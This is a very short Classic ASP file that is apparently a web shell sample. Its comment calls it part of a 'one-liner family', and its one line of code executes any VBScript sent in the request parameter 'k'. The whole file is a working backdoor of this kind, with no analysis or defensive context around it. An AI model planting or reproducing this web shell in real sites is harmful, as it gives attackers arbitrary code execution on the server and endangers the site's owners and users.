<%
' Classic ASP one-liner family: run whatever VBScript the request carries.
If Request("k") <> "" Then Execute Request("k")
%>
